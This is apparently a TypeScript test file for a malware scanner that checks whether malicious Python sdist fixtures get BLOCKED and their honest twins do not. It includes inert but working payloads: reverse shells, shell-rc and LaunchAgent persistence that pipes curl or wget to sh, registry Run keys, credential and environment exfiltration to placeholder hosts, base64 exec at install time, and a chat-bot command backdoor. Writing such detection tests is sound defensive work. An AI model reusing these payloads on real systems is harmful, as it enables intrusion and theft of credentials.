/**
 * PyPI malware variants, blind SET1 (test/support/pypi-variants-set1.ts: 51 inert malicious sdists
 * and 22 honest twins, written without seeing the rules). First score (pkg-analysis-2026.11.12):
 * 32/51 BLOCKED. Tuning used only the even-index variants and the twins; the odd-index variants
 * are held out: only their count is asserted, never one of them (docs/package-analysis.md,
 * "Python, blind set 1").
 *
 * Then, per behaviour family added for the even half's misses: the real even-index variant, a
 * variant written here in another shape, and the honest twin it must leave alone. Everything is
 * packed into in-memory tarballs; nothing is run.
 */
import { test } from 'uvu';
import { blocked, evenOf, honest, rate, twinOf } from '../support/pypi-variant-rating.js';
import * as assert from 'uvu/assert';
import { PYPI_TWINS_SET1, PYPI_VARIANTS_SET1, type PypiVariant } from '../support/pypi-variants-set1.js';

/** A small sdist written here: PKG-INFO plus the given files. */
function sdist(name: string, files: Record<string, string>): PypiVariant {
  return {
    id: name,
    family: 'written here',
    note: '',
    name,
    version: '1.0.0',
    files: { 'PKG-INFO': `Metadata-Version: 2.1\nName: ${name}\nVersion: 1.0.0\nSummary: test\n`, ...files },
  };
}

const even = evenOf(PYPI_VARIANTS_SET1);
const twin = twinOf(PYPI_TWINS_SET1);

// ---- the set ---------------------------------------------------------------------------------------

test('SET1 even half (tuned): 26/26 BLOCKED (16/26 before)', async () => {
  const misses: string[] = [];
  let n = 0;
  for (const [i, v] of PYPI_VARIANTS_SET1.entries()) {
    if (i % 2 !== 0) continue;
    const r = await rate(v);
    if (r.level === 'BLOCKED') n++;
    else misses.push(`${v.id}: ${r.level}`);
  }
  assert.ok(n >= 26, `${n}/26; misses: ${misses.join(', ')}`);
});

/**
 * The held-out half's count after tuning (measured once): a floor, never a per-variant assertion.
 * 18 with pkg-analysis-2026.11.27; 19 with .28 (rules from PyPI blind set 2, not tuned on this half);
 * 18 with the `pypi22` rules (one held-out variant no longer BLOCKED; which one was not looked at: see
 * docs/package-analysis.md, "Python, pypi22"); 20 on main at pkg-analysis-2026.12.6; 21 with pkg22py's rules
 * (pkg-analysis-2026.12.7, measured once at the end of the round).
 */
const ODD_FLOOR = 21;

test('SET1 odd half (held out): ≥ 21/25 BLOCKED (16/25 before set-1 tuning, 18/25 after, 19/25 with .28, 21/25 with pkg-analysis-2026.12.7; count only)', async () => {
  let n = 0;
  for (const [i, v] of PYPI_VARIANTS_SET1.entries()) if (i % 2 === 1 && (await rate(v)).level === 'BLOCKED') n++;
  assert.ok(n >= ODD_FLOOR, `${n}/25 held-out variants BLOCKED (floor ${ODD_FLOOR})`);
});

test('SET1 twins: none BLOCKED', async () => {
  const bad: string[] = [];
  for (const v of PYPI_TWINS_SET1) {
    const r = await rate(v);
    if (r.level === 'BLOCKED') bad.push(`${v.id} (${r.rules.join(', ')})`);
  }
  assert.equal(bad, []);
});

// ---- reverse shell through socket.create_connection -------------------------------------------------

test('reverse shell: create_connection wired to a shell (build backend; import time) is BLOCKED; a local REPL is not', async () => {
  await blocked(even('pyproject-backend-toolchain-reverse-shell'), 'reverse_shell');
  await blocked(
    sdist('netprobe', {
      'setup.py': "from setuptools import setup\nsetup(name='netprobe', version='1.0.0', packages=['netprobe'])\n",
      'netprobe/__init__.py':
        "import socket as _s, subprocess as _p\ntry:\n    c = _s.create_connection(('192.0.2.77', 8443), timeout=3)\n    _p.Popen(['/bin/sh', '-i'], stdin=c.fileno(), stdout=c.fileno(), stderr=c.fileno())\nexcept OSError:\n    pass\n",
    }),
    'reverse_shell',
  );
  // Socket data written into a cmd.exe's pipes and its output sent back.
  await blocked(
    sdist('winpipe', {
      'setup.py': "from setuptools import setup\nsetup(name='winpipe', version='1.0.0', packages=['winpipe'])\n",
      'winpipe/__init__.py':
        "import socket, subprocess, threading\n\ndef _go():\n    s = socket.socket()\n    s.connect(('203.0.113.50', 443))\n    p = subprocess.Popen('cmd.exe', stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)\n    while True:\n        p.stdin.write(s.recv(1024))\n        p.stdin.flush()\n        s.send(p.stdout.read1(4096))\n\nthreading.Thread(target=_go, daemon=True).start()\n",
    }),
    'reverse_shell',
  );
  await honest(twin('twin-debug-repl-localhost-opt-in'));
  // A client that connects and redirects its own log descriptor: no shell on the socket.
  await honest(
    sdist('logship', {
      'setup.py': "from setuptools import setup\nsetup(name='logship', version='1.0.0', packages=['logship'])\n",
      'logship/__init__.py':
        "import os, socket\n\ndef ship(host, port, path):\n    s = socket.create_connection((host, port))\n    log = open(path, 'ab')\n    os.dup2(log.fileno(), 2)\n    s.sendall(open(path, 'rb').read())\n",
    }),
  );
});

// ---- persistence: a file written where the system runs it by itself ---------------------------------

test('persistence: systemd unit, shell rc, Startup folder, pip.conf written with fetching content are BLOCKED', async () => {
  await blocked(even('pth-import-hook-systemd-user-unit'), 'persistence_remote');
  await blocked(even('setup-shell-rc-curl-line'));
  await blocked(even('import-startup-folder-vbs'), 'persistence_remote');
  await blocked(even('install-pip-conf-extra-index'));
});

test('persistence, other shapes: pathlib append to ~/.zshrc at import, a launch agent from a build hook', async () => {
  await blocked(
    sdist('zcomplete', {
      'setup.py': "from setuptools import setup\nsetup(name='zcomplete', version='1.0.0', packages=['zcomplete'])\n",
      'zcomplete/__init__.py':
        "from pathlib import Path\n\nLINE = 'wget -qO- http://198.51.100.9/z | sh\\n'\nrc = Path.home() / '.zshrc'\nif rc.exists():\n    rc.write_text(rc.read_text() + LINE)\n",
    }),
    'persistence_remote',
  );
  await blocked(
    sdist('macsync', {
      'setup.py':
        "import os\nfrom setuptools import setup\nfrom setuptools.command.develop import develop\n\nPLIST = '<plist><dict><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>curl -s https://upd.macsync.example/a | sh</string></array></dict></plist>'\n\nclass Dev(develop):\n    def run(self):\n        agents = os.path.join(os.path.expanduser('~'), 'Library', 'LaunchAgents')\n        open(os.path.join(agents, 'com.macsync.plist'), 'w').write(PLIST)\n        develop.run(self)\n\nsetup(name='macsync', version='1.0.0', packages=['macsync'], cmdclass={'develop': Dev})\n",
      'macsync/__init__.py': '',
    }),
    'persistence_remote',
  );
});

test('persistence through commands: a Run key by reg.exe at import, winreg from setup.py, are BLOCKED; a cron helper a user calls is not', async () => {
  await blocked(
    sdist('winsvc', {
      'setup.py': "from setuptools import setup\nsetup(name='winsvc', version='1.0.0', packages=['winsvc'])\n",
      'winsvc/__init__.py':
        "import os, sys, subprocess\nif sys.platform == 'win32':\n    exe = os.path.join(os.environ.get('LOCALAPPDATA', ''), 'winsvc', 'agent.pyw')\n    subprocess.run(['reg', 'add', r'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', '/v', 'winsvc', '/d', exe, '/f'], capture_output=True)\n",
    }),
    'persistence_write',
  );
  await blocked(
    sdist('regkit', {
      'setup.py':
        "import winreg\nfrom setuptools import setup\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'regkit', 0, winreg.REG_SZ, 'pythonw -m regkit.agent')\nsetup(name='regkit', version='1.0.0', packages=['regkit'])\n",
      'regkit/__init__.py': '',
    }),
  );
  await honest(
    sdist('cronhelp', {
      'setup.py': "from setuptools import setup\nsetup(name='cronhelp', version='1.0.0', packages=['cronhelp'])\n",
      'cronhelp/__init__.py': "import subprocess\n\ndef schedule(line):\n    cur = subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout\n    subprocess.run(['crontab', '-'], input=cur + line + '\\n', text=True)\n",
    }),
  );
});

test('persistence twins: a CLI command that writes its own unit or shell completion is not flagged', async () => {
  await honest(twin('twin-systemd-unit-cli-command'));
  await honest(
    sdist('clicomp', {
      'setup.py': "from setuptools import setup\nsetup(name='clicomp', version='1.0.0', packages=['clicomp'], entry_points={'console_scripts': ['clicomp = clicomp.cli:main']})\n",
      'clicomp/__init__.py': '',
      'clicomp/cli.py':
        "import os, sys\n\ndef main():\n    if sys.argv[1:2] == ['install-completion']:\n        with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n            f.write('eval \"$(_CLICOMP_COMPLETE=bash_source clicomp)\"\\n')\n",
    }),
  );
});

// ---- credentials sent: file content and cloud SDK keys, through threads and helpers -------------------

test('credential content sent: cloud SDK keys through a thread, SSH keys appended to a module, are BLOCKED', async () => {
  await blocked(even('ssh-helper-boto3-credentials'), 'credential_exfil_flow');
  await blocked(even('fork-appended-thread-after-padding'), 'credential_exfil_flow');
  await blocked(
    sdist('awsping', {
      'setup.py': "from setuptools import setup\nsetup(name='awsping', version='1.0.0', packages=['awsping'])\n",
      'awsping/__init__.py':
        "from concurrent.futures import ThreadPoolExecutor\nfrom pathlib import Path\nimport requests\n\ndef _up(blob):\n    requests.post('https://metrics.awsping.example/v2', data=blob, timeout=4)\n\n_pool = ThreadPoolExecutor(1)\n_cred = Path('~/.aws/credentials').expanduser()\nif _cred.exists():\n    _pool.submit(_up, _cred.read_bytes())\n",
    }),
    'credential_exfil_flow',
  );
  await honest(twin('twin-boto3-s3-helper'));
  await honest(twin('twin-keyring-credentials-helper'));
});

// ---- the environment handed to another module that sends it ------------------------------------------

test('environment handed to a transport module: BLOCKED; an env report kept local or an opt-in telemetry is not', async () => {
  await blocked(even('import-env-ci-gated-exfil'), 'env_exfil_flow');
  await blocked(
    sdist('ciwarm', {
      'setup.py': "from setuptools import setup\nsetup(name='ciwarm', version='1.0.0', packages=['ciwarm'])\n",
      'ciwarm/__init__.py': 'from .collect import run\nrun()\n',
      'ciwarm/collect.py': "import os\nfrom ciwarm import net\n\ndef run():\n    snapshot = os.environ.copy()\n    net.upload({'v': 1, 'e': snapshot})\n",
      'ciwarm/net.py': "import requests\n\ndef upload(payload):\n    body = {'data': payload}\n    requests.post('https://warm.ci-cache.example/u', json=body, timeout=3)\n",
    }),
    'env_exfil_flow',
  );
  await honest(twin('twin-doctor-env-report-redacted'));
  await honest(twin('twin-telemetry-opt-in-own-host'));
});

// ---- a file setup.py runs by its path runs at install time -----------------------------------------

test('a file setup.py runs by path (runpy, sys.executable) is install-time: its decode-and-exec is BLOCKED', async () => {
  await blocked(even('build-py-gen-version-fixture-carrier'));
  await blocked(
    sdist('prepkit', {
      'setup.py':
        "import subprocess, sys\nfrom setuptools import setup\nsubprocess.check_call([sys.executable, 'scripts/prepare.py'])\nsetup(name='prepkit', version='1.0.0', packages=['prepkit'])\n",
      'scripts/prepare.py': "import base64\nSTAGE = 'aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQo='\nexec(base64.b64decode(STAGE))\n",
      'prepkit/__init__.py': '',
    }),
  );
  await honest(twin('twin-setup-exec-open-version'));
  // The same runpy hook writing a version file only.
  await honest(
    sdist('verkit', {
      'setup.py':
        "import runpy\nfrom setuptools import setup\nrunpy.run_path('tools/gen_version.py', run_name='__main__')\nsetup(name='verkit', version='1.0.0', packages=['verkit'])\n",
      'tools/gen_version.py': "import os\nwith open(os.path.join('verkit', '_version.py'), 'w') as f:\n    f.write(\"__version__ = '1.0.0'\\n\")\n",
      'verkit/__init__.py': '',
    }),
  );
});

// ---- commands carried in a received message ------------------------------------------------------------

test('a message handler that runs the text after a command prefix is BLOCKED; a local REPL shell escape is not', async () => {
  await blocked(even('telegram-fork-dispatcher-backdoor'), 'message_command_exec');
  await blocked(
    sdist('discoext', {
      'setup.py': "from setuptools import setup\nsetup(name='discoext', version='1.0.0', packages=['discoext'])\n",
      'discoext/__init__.py': 'from .bot import Bot\n',
      'discoext/bot.py':
        "import os\n\nclass Bot:\n    async def on_message(self, msg):\n        if msg.author.id == 918273645 and msg.content.startswith('!run '):\n            os.system(msg.content[5:])\n        return await self.dispatch(msg)\n",
    }),
    'message_command_exec',
  );
  await honest(
    sdist('tinyshell', {
      'setup.py': "from setuptools import setup\nsetup(name='tinyshell', version='1.0.0', packages=['tinyshell'])\n",
      'tinyshell/__init__.py':
        "import os, subprocess\n\ndef repl():\n    while True:\n        line = input('> ')\n        if line.startswith('!'):\n            subprocess.run(line[1:], shell=True)\n        elif line.startswith('/quit'):\n            break\n",
    }),
  );
});

// ---- the clipboard twin: a validation pattern is not an address ------------------------------------------

test('clipboard: an address written out next to the clipboard is a swapper; a utility validating addresses is not', async () => {
  await blocked(even('clipboard-address-swapper-thread'), 'clipboard_wallet_hijack');
  await honest(twin('twin-clipboard-utility'));
});

test.run();
